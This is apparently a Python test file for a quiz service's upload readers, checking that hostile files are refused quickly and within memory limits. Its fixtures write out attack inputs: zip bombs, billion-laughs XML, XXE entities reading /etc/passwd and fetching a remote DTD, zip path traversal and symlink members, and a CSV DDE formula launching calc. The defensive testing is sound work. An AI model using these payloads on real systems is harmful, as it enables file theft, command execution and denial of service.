"""Files that mean harm: each is refused with a sentence or read as what it says, quickly, in little memory, alone."""

import io
import json
import re
import stat
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from functools import cache, partial
from typing import Any

import pytest
import xlsxwriter

from quizsvc import uploads
from tests.patience import in_time

MEBIBYTE = 1024 * 1024
MOST_SECONDS, MOST_BYTES = 2.0, 200 * MEBIBYTE
READERS = ("questions", "roster")

# Takes files from standard input, each after its length, and reads each in a process of its own that is a copy of this
# one: with everything imported, as a server's is. Tells what came of it and what it took. The peak of memory is the
# kernel's own count since the last reset; what the system is asked for is heard by a hook.
_TRIAL = """
import json, os, resource, sys
from quizsvc import formats
from quizsvc.core.refusal import Refusal
from quizsvc.roster.files import read_roster

WRITING = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
TOUCHING = ("os.mkdir", "os.rename", "os.remove", "os.link", "os.symlink", "os.chmod", "tempfile.", "shutil.")
asked = []

def listen(event, given):
    named = event == "open" and not isinstance(given[0], int)  # a number is a pipe to the spreadsheet reader
    if named and given[2] & WRITING or event.startswith(("socket.", "urllib.", *TOUCHING)):
        asked.append([event, repr(given)])

def memory(name):
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) * 1024 for line in status if line.startswith(name))

def seconds():
    spent = [resource.getrusage(who) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
    return sum(one.ru_utime for one in spent)

def trial(read):
    asked.clear()
    with open("/proc/self/clear_refs", "w") as reset:
        reset.write("5")
    before, start = memory("VmRSS"), seconds()
    listening.append(True)
    try:
        said, refused = repr(read(body)), False
    except Refusal as refusal:
        said, refused = refusal.text, True
    listening.clear()
    took = seconds() - start
    return {"refused": refused, "said": said[:100000], "asked": asked,
            "seconds": took, "bytes": memory("VmHWM") - before}

listening = []
sys.addaudithook(lambda event, given: listening and listen(event, given))
while length := sys.stdin.buffer.read(8):
    body = sys.stdin.buffer.read(int.from_bytes(length, "big"))
    for read in (formats.read, read_roster):
        if os.fork() == 0:
            print(json.dumps(trial(read)), flush=True)
            os._exit(0)
        _, status = os.wait()
        if status:
            print(json.dumps(None), flush=True)
"""


def packed(*members: tuple[str | zipfile.ZipInfo, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        for name, content in members:
            archive.writestr(name, content, packing)
    return body.getvalue()


def book(*cells: tuple[int, int, str]) -> bytes:
    """A sheet that both readers would know, with cells of one's own."""
    headings = ("题干", "选项A", "选项B", "答案", "班级", "座号")
    body = io.BytesIO()
    with xlsxwriter.Workbook(body) as made:
        sheet = made.add_worksheet()
        for column, heading in enumerate(headings):
            sheet.write_string(0, column, heading)
        for row, column, text in cells:
            sheet.write_string(row, column, text)
    return body.getvalue()


def repacked(body: bytes, member: str, content: bytes) -> bytes:
    """The same archive with other content in one member."""
    with zipfile.ZipFile(io.BytesIO(body)) as old:
        names = [(name, content if name == member else old.read(name)) for name in old.namelist()]
    return packed(*names)


SHEET = "xl/worksheets/sheet1.xml"
NOISE = b"".join(
    struct.pack("<I", number * 2654435761 % 2**32) for number in range(100_000)
)  # does not compress
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">' + b"".join(
    b'<!ENTITY a%d "%s">' % (number + 1, b"&a%d;" % number * 10) for number in range(12)
)
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a12 SYSTEM "file:///etc/passwd">
<!ENTITY % remote SYSTEM "http://192.0.2.1/canary.dtd"> %remote;"""


def moodle(prologue: bytes) -> bytes:
    question = b'<question type="truefalse"><questiontext><text>&a12;</text></questiontext></question>'
    return prologue + b"]><quiz>" + question + b"</quiz>"


def qti(prologue: bytes) -> bytes:
    manifest = prologue + b']><manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1">&a12;</manifest>'
    return packed(("imsmanifest.xml", manifest))


def docx(document: bytes) -> bytes:
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return packed(("[Content_Types].xml", types), ("word/document.xml", document), ("noise", NOISE))


def paragraphs(prologue: bytes, content: bytes) -> bytes:
    space = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = b"<w:body><w:p><w:r><w:t>" + content + b"</w:t></w:r></w:p></w:body></w:document>"
    return prologue + b'<w:document xmlns:w="' + space + b'">' + text


def worksheet(prologue: bytes, content: bytes) -> bytes:
    return prologue + b"<worksheet><sheetData>" + content + b"</sheetData></worksheet>"


def link() -> bytes:
    member = zipfile.ZipInfo("imsmanifest.xml")
    member.external_attr = (stat.S_IFLNK | 0o777) << 16
    return packed((member, b"/etc/passwd"))


def encrypted() -> bytes:
    body = packed(("imsmanifest.xml", b"<manifest/>" * 9))
    at = body.index(b"PK\x01\x02")
    return body[:6] + b"\x01" + body[7 : at + 8] + b"\x01" + body[at + 9 :]


def nested() -> bytes:
    body = b"\0" * 10 * MEBIBYTE
    for depth in range(5):
        body = packed((f"{depth}.zip", body))
    return packed(("imsmanifest.xml", body), ("word/document.xml", body), ("noise", NOISE))


def wandering() -> bytes:
    names = ["../" * depth + "etc/passwd" for depth in range(1, 51)] + [f"/tmp/canary-{n}" for n in range(50)]
    return packed(*((name, b"canary") for name in names))


def lying() -> bytes:
    content = worksheet(b"", b" " * 40 * MEBIBYTE)
    return repacked(book(), SHEET, content).replace(struct.pack("<I", len(content)), struct.pack("<I", 1000))


def filled(text: str, size: int = uploads.LARGEST_FILE) -> bytes:
    """As much of a text as a file may hold."""
    one = text.encode()
    return one * (size // len(one))


def long_cells(text: str, *headings: str, size: int = uploads.LARGEST_FILE) -> bytes:
    """Questions with cells as long as they may be, full of one text, as many as a file may hold."""
    cell = '"' + text * (120_000 // len(text)) + '"'
    row = ",".join(cell if one in headings else COLUMNS[one] for one in COLUMNS) + "\n"
    body = (",".join(COLUMNS) + "\n").encode()
    return body + row.encode() * ((size - len(body)) // len(row.encode()))


COLUMNS = {"题干": "怎么做？", "选项": "不理会|先垫付", "答案": "A", "情景渠道": "短信"} | dict.fromkeys(
    ("情景内容", "破绽原文", "人群", "危险想法", "难度", "有效期", "题型"), ""
)
CSV = "题干,选项A,选项B,答案,班级,座号\n怎么做？,不理会,先垫付,A,3,1\n"
DDE = CSV + '=cmd|\'/c calc\'!A0,"=HYPERLINK(""http://192.0.2.1/"")",@SUM(1),A,+1,-1\n'

# name -> (what is in the file, who may read it; the others refuse it)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb": (lambda: packed(("imsmanifest.xml", b"\0" * 100 * MEBIBYTE)), ""),
    "zip bomb as a sheet": (lambda: repacked(book(), SHEET, worksheet(b"", b" " * 29 * MEBIBYTE)), ""),
    "zip bomb within the limits": (
        lambda: packed((SHEET, b" " * 29 * MEBIBYTE), ("xl/workbook.xml", b" "), ("noise", NOISE)), ""),
    "bomb that lies": (lying, ""),
    "bomb as a text document": (lambda: docx(paragraphs(b"", b"A. " * 2_500_000)), ""),
    "bomb of paragraphs": (lambda: docx(paragraphs(b"", b"</w:t></w:r></w:p><w:p><w:r><w:t>" * 200_000)), ""),
    "nested archives": (nested, ""),
    "a hundred names outside": (wandering, ""),
    "symbolic link": (link, ""),
    "encrypted member": (encrypted, ""),
    "half an archive": (lambda: book((1, 0, "怎么做？"))[:-300], ""),
    "many members": (lambda: packed(*((f"{n}.xml", b"x") for n in range(201))), ""),
    "laughs in Moodle XML": (lambda: moodle(LAUGHS), ""),
    "laughs in QTI": (lambda: qti(LAUGHS), ""),
    "laughs in a text document": (lambda: docx(paragraphs(LAUGHS + b"]>", b"&a12;")), ""),
    "laughs in a sheet": (lambda: repacked(book(), SHEET, worksheet(LAUGHS + b"]>", b"&a12;")), ""),
    "outside entity in Moodle XML": (lambda: moodle(OUTSIDE), ""),
    "outside entity in QTI": (lambda: qti(OUTSIDE), ""),
    "outside entity in a text document": (lambda: docx(paragraphs(OUTSIDE + b"]>", b"&a12;")), ""),
    "deep XML": (lambda: b"<quiz>" + filled("<a>", 5_000_000), ""),
    "wide XML": (lambda: b"<quiz>" + filled("<a/>", 5_000_000) + b"</quiz>", ""),
    "questions without end": (
        lambda: b"<quiz>" + filled("<question type='essay'/>", 5_000_000) + b"</quiz>", ""),
    "one cell in the last corner": (lambda: book((1_048_575, 16_383, "z")), ""),
    "one cell in the last row": (lambda: book((1_048_575, 0, "z")), ""),
    "20,001 rows": (lambda: CSV.encode() + b"x,x,x,A,3,1\n" * 20_000, ""),
    "61 columns": (lambda: CSV.encode().replace(b"\n", b",x" * 55 + b"\n"), ""),
    "one text in a thousand cells": (lambda: book(*((n + 1, 0, "长" * 32_000) for n in range(1000))), ""),
    "one line of a megabyte": (lambda: filled("怎么做", MEBIBYTE), ""),
    "a byte too many": (lambda: b"x" * (uploads.LARGEST_FILE + 1), ""),
    "UTF-16 without its mark": (lambda: CSV.encode("utf-16-le"), ""),
    "GB18030": (lambda: CSV.encode("gb18030"), "questions roster"),
    "NUL bytes": (lambda: CSV.replace("怎", "\0").encode(), ""),
    "OLE garbage": (lambda: uploads.OLE + NOISE, ""),
    "noise": (lambda: NOISE, ""),
    "formulas": (lambda: DDE.encode("utf-8"), "questions roster"),
    "deep TOML": (lambda: b"[[item]]\ncode = " + filled("[", 1_000_000), ""),
    "wide TOML": (lambda: b"[[item]]\n" + filled("a.", 1_000_000) + b"a = 1", ""),
    "empty TOML tables": (lambda: filled("[[item]]\n"), ""),
    "long number in TOML": (lambda: b"[[item]]\ncode = " + filled("9"), ""),
}  # fmt: skip
"""Name -> what is in the file, and the readers that take it; every other one refuses it."""

FILLERS = (
    "{", "A.", "A.\n", "1. x\n", "答案：A\n", "::", "{~", "\\{", "//", "\n\n{}", "x{=a ~b}\n\n", "[",
    "【短信】\n", "<a>", "<!--", "&amp;", '",', "ab;", "（", "题干,", "ANSWER: A\n", "$CATEGORY: x\n",
    "x\nA. y\nB. z\n答案：A\n", "x {=1 -> 2 =",
)  # fmt: skip
"""What much of may cost a reader more than its length; whether it is a question matters little."""

LONG_CELLS = (
    *(("1 ", "答案"), ("A", "答案"), ("对|", "答案"), ("A.", "答案"), ("x|", "选项"), ("A.x ", "选项")),
    *(("A.x\n", "选项"), ("初中 ", "人群"), ("x ", "人群"), ("(", "题型"), ("1 ", "难度", "有效期")),
    *(("x;", "情景内容", "破绽原文"), ("x\n", "情景内容", "破绽原文")),
    *(("x\n", "选项", "答案"), ("B：x\n", "危险想法"), ("A.x|", "选项", "答案")),
)
"""What long cells of a table may be full of, and in which columns."""


def full(size: int) -> dict[str, tuple[Callable[[], bytes], str]]:
    """Files of a size, full of what may cost more than its length."""
    made: dict[str, tuple[Callable[[], bytes], str]] = {}
    for text in FILLERS:
        made[f"full of {text!r}"] = (partial(filled, text, size), "?")
    for text, *headings in LONG_CELLS:
        made[f"cells of {text!r} in {headings}"] = (partial(long_cells, text, *headings, size=size), "?")
    return made


SAMPLE = (
    4  # of the files below every fourth, and small ones; the drill R18 has them all, as large as they may be
)
FILES.update(list(full(MEBIBYTE // 4).items())[::SAMPLE])


class Grounds:
    """A process that reads what it is given."""

    def __init__(self) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-c", _TRIAL], stdin=subprocess.PIPE, stdout=subprocess.PIPE
        )

    @cache  # noqa: B019 it lives as long as the module's tests
    def trial(self, name: str) -> dict[str, dict[str, Any]]:
        return self.read(FILES[name][0]())

    def read(self, body: bytes) -> dict[str, dict[str, Any]]:
        self.process.stdin.write(len(body).to_bytes(8, "big") + body)
        self.process.stdin.flush()
        return {reader: json.loads(self.process.stdout.readline()) for reader in READERS}

    def close(self) -> None:
        self.process.stdin.close()
        self.process.stdout.close()
        self.process.wait(timeout=10)


@pytest.fixture(scope="module")
def grounds() -> Iterator[Grounds]:
    made = Grounds()
    yield made
    made.close()


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_or_read_as_what_it_says(grounds: Grounds, name: str, reader: str) -> None:
    found = grounds.trial(name)[reader]
    if found is not None and found["seconds"] >= MOST_SECONDS:  # the machine may have been short of memory
        found = grounds.read(FILES[name][0]())[reader]
    check(found, reader, FILES[name][1])


def check(found: dict[str, Any] | None, reader: str, taken_by: str) -> None:
    """Hold what came of a file against what may come of it; "?" is either."""
    assert found is not None, "the reader's process ended"
    assert taken_by == "?" or found["refused"] is (reader not in taken_by.split())
    assert not found["refused"] or re.fullmatch(r"[^\n]*[\u4e00-\u9fff][^\n]*。", found["said"])
    assert "root:" not in found["said"]
    assert found["asked"] == []
    assert in_time(found["seconds"], MOST_SECONDS)
    assert found["bytes"] < MOST_BYTES


def test_what_is_forbidden_would_be_noticed() -> None:
    """The trial itself, on readers that do what no reader may."""
    bad = """
def formats_read(body):
    open("/dev/null", "w").close()
    kept = b"x" * 250 * 1024 * 1024
    sum(range(30_000_000))
    return body
"""
    trial = _TRIAL.replace("listening = []\n", bad + "listening = []\n").replace(
        "formats.read,", "formats_read,"
    )
    done = subprocess.run(
        [sys.executable, "-c", trial], input=(1).to_bytes(8, "big") + b"x", capture_output=True, check=True
    )
    found = json.loads(done.stdout.splitlines()[0])

    assert [event for event, _ in found["asked"]] == ["open"]
    assert found["bytes"] > MOST_BYTES
    assert found["seconds"] > MOST_SECONDS / 10
    assert not found["refused"]
